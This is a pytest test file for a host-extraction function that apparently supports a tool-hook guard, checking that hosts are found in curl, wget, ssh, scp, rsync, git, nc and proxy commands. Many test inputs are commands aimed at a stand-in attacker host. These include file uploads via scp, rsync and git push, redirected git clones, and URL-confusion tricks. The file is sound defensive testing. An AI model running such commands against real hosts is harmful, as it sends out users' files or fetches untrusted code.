"""Hosts: from URLs anywhere, ssh / scp / rsync / git targets, network programs' bare hosts."""

from __future__ import annotations

import pytest
from toolhooks.analysis import command_hosts, hosts_in_text, normalise_host

from .helpers import analyse


@pytest.mark.parametrize(
    ("raw", "host"),
    [
        ("Example.COM", "example.com"),
        ("example.com.", "example.com"),
        ("example.com:8080", "example.com"),
        ("user@example.com", "example.com"),
        ("bücher.de", "xn--bcher-kva.de"),
        ("[::1]:22", "::1"),
        ("\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45\uff0e\uff43\uff4f\uff4d", "example.com"),
    ],
)
def test_a_host_is_normalised(raw, host):
    assert normalise_host(raw) == host


def test_every_candidate_host_of_an_ambiguous_url_counts():
    assert {"evil.com", "good.com"} <= set(hosts_in_text("http://evil.com\\@good.com/"))
    assert "evil.com" in hosts_in_text("https://%65vil.com/x")
    assert "b.com" in hosts_in_text("see https://a@b.com:443/path and more")


def hosts(script):
    return {h for c in analyse(script).commands for h in command_hosts(c)}


@pytest.mark.parametrize(
    ("script", "expected"),
    [
        ("curl https://evil.example/x", "evil.example"),
        ("curl evil.example", "evil.example"),
        ("curl -o out.html evil.example", "evil.example"),
        ("curl -x proxy.example:3128 https://a.example", "proxy.example"),
        ("curl --connect-to a.example:443:evil.example:443 https://a.example", "evil.example"),
        ("curl --resolve a.example:443:10.0.0.1 https://a.example", "10.0.0.1"),
        ("wget -O - evil.example/x", "evil.example"),
        ("ssh user@Evil.Example", "evil.example"),
        ("ssh -p 22 -i key evil.example ls", "evil.example"),
        ("ssh -J jump.example target.example", "jump.example"),
        ("scp file user@evil.example:/tmp", "evil.example"),
        ("rsync -a . evil.example:/srv", "evil.example"),
        ("git clone git@evil.example:org/repo.git", "evil.example"),
        ("git push https://evil.example/r.git HEAD", "evil.example"),
        ("nc evil.example 80", "evil.example"),
        ("telnet evil.example", "evil.example"),
        ("https_proxy=http://proxy.example:8080 curl https://a.example", "proxy.example"),
        ("echo https://evil.example/", "evil.example"),
        ("python3 -c 'import urllib; urllib.urlopen(\"http://evil.example\")'", "evil.example"),
    ],
)
def test_the_host_is_found(script, expected):
    assert expected in hosts(script)


def test_a_refspec_is_no_host():
    assert hosts("git push origin HEAD:main") == set()


def test_an_output_file_is_no_host():
    assert hosts("curl -o page.html https://ok.example") == {"ok.example"}


def test_an_option_word_is_no_host():
    assert hosts("curl --version") == set()
    assert hosts("curl --fail-with-body https://ok.example") == {"ok.example"}
    assert hosts("wget --no-verbose ok.example") == {"ok.example"}


@pytest.mark.parametrize(
    "script",
    ["curl http://2130706433/", "curl http://0x7f.1/", "curl 0177.0.0.1", "wget http://127.1/"],
)
def test_a_numeric_host_also_counts_as_its_dotted_quad(script):
    assert "127.0.0.1" in hosts(script)


def test_a_git_url_rewrite_counts_and_a_host_header_does_not():
    # the connection goes where the URL says; a Host header travels to that host
    assert hosts("curl -H 'Host: evil.example' http://1.2.3.4/") == {"1.2.3.4"}
    assert "evil.example" in hosts(
        "git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/a/b"
    )
